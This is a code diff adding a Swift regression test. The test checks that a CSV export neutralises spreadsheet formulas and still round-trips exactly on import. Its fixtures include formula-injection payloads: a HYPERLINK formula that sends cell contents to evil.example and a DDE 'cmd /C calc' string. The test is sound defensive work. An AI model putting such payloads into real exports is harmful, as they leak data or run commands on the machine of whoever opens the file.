@@ -46,4 +46,28 @@ import Vapor
             #expect(try await Self.row("imp-gone", app.db)?.status == "draft")
         }
     }
+
+    /// Review 3: `observatory export --format csv` wrote titles as typed, so "=HYPERLINK(…)" ran in the spreadsheet
+    /// of whoever opened the export; now guarded with `'`, and the CSV import takes the guard off (exact round trip).
+    @Test(arguments: Engine.all)
+    func theCSVExportRunsNoFormulaAndStillRoundTrips(_ engine: Engine) async throws {
+        let titles = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")", "+cmd|' /C calc'!A0", "@SUM(1)",
+                      "'=already quoted", "-2 days: update", "''+x", "Plain 'title'"]
+        var csv = ""
+        try await withApp(engine) { app in
+            try await store(titles.enumerated().map { publication("csv-\($0.offset)", title: $0.element) }, in: app)
+            csv = try await ExportTests.export(app, .publications, .csv)
+        }
+        let cells = CSVText.parse(csv).dropFirst().flatMap { $0 }
+        for cell in cells {
+            #expect(!(cell.unicodeScalars.first.map { "=+-@\t\r".unicodeScalars.contains($0) } ?? false),
+                    "a cell a spreadsheet would run: \(cell)")
+        }
+        try await withApp(engine) { app in
+            _ = try await CSVImporter(db: app.db).importFile(at: try temporaryFile(csv))
+            for (index, title) in titles.enumerated() {
+                #expect(try await PublicationQueries.find(id: "csv-\(index)", on: app.db)?.summary.title == title)
+            }
+        }
+    }
 }
